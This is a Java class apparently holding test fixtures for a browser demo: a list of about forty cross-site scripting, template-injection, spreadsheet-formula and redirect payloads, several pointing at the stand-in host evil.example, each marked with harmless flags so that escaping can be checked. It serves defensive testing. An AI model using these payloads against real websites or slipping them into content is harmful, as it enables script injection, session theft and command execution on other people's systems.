package org.treehook.demo.browser;

import java.util.List;

/**
 * Texts that would run a script, or put an element into the page, wherever they are taken for anything but text. Elements
 * of theirs bear the attribute {@code data-xss}; scripts set {@code window.xss}.
 */
final class HostileText {

    private static final String RUN = "parent.xss=xss=1";

    static final List<String> ALL = List.of(
            "<script data-xss>" + RUN + "</script>",
            "<ScRiPt data-xss src=data:text/javascript,xss=1></sCrIpT>",
            "<img data-xss src=x onerror=\"" + RUN + "\">",
            "<svg data-xss onload=" + RUN + ">",
            "<svg data-xss><script>" + RUN + "</script></svg>",
            "<svg data-xss><animate onbegin=" + RUN + " attributeName=x dur=1s>",
            "<iframe data-xss srcdoc=\"<script>" + RUN + "</script>\"></iframe>",
            "<object data-xss data=\"javascript:" + RUN + "\"></object>",
            "javascript:" + RUN,
            "data:text/html,<script data-xss>" + RUN + "</script>",
            "\"><img data-xss src=x onerror=" + RUN + ">",
            "'><script data-xss>" + RUN + "</script>",
            "\" data-xss autofocus onfocus=" + RUN + " x=\"",
            "' data-xss autofocus onfocus=" + RUN + " x='",
            "` data-xss onmouseover=" + RUN + " x=`",
            "</script><script data-xss>" + RUN + "</script>",
            "</textarea><img data-xss src=x onerror=" + RUN + ">",
            "</title><script data-xss>" + RUN + "</script>",
            "</style><script data-xss>" + RUN + "</script>",
            "--><script data-xss>" + RUN + "</script><!--",
            "]]><script data-xss>" + RUN + "</script>",
            "{{constructor.constructor('parent.xss=1')()}}",
            "{{$on.constructor('xss=1')()}}",
            "${7*7} #{7*7} *{7*7} ~{portal/frame} @{/x}",
            "[[${T(java.lang.Runtime).getRuntime()}]] [(${7*7})]",
            "__${T(java.lang.System).exit(1)}__::.x",
            "<a data-xss href=\"javascript:" + RUN + "\">click</a>",
            "[click](javascript:" + RUN + ") ![x](x\"onerror=\"" + RUN + ")",
            "=cmd|'/C calc'!A0",
            "<math data-xss><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
            "<noscript data-xss><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
            "<details data-xss open ontoggle=" + RUN + ">more",
            "<div data-xss hx-get=/portal/ hx-trigger=load hx-on::load=" + RUN + ">",
            "<div data-xss ng-app ng-init=\"constructor.constructor('xss=1')()\">",
            "\\u003cscript data-xss\\u003exss=1\\u003c/script\\u003e",
            "&lt;script data-xss&gt;xss=1&lt;/script&gt; &#60;img data-xss&#62;",
            "\uff1cscript data-xss\uff1exss=1\uff1c/script\uff1e \u202etxt",
            "<base data-xss href=//evil.example><form data-xss action=//evil.example><button>go",
            "<meta data-xss http-equiv=refresh content=\"0;url=//evil.example\">",
            "<template data-xss shadowrootmode=open><script>" + RUN + "</script></template>");

    private HostileText() {}
}
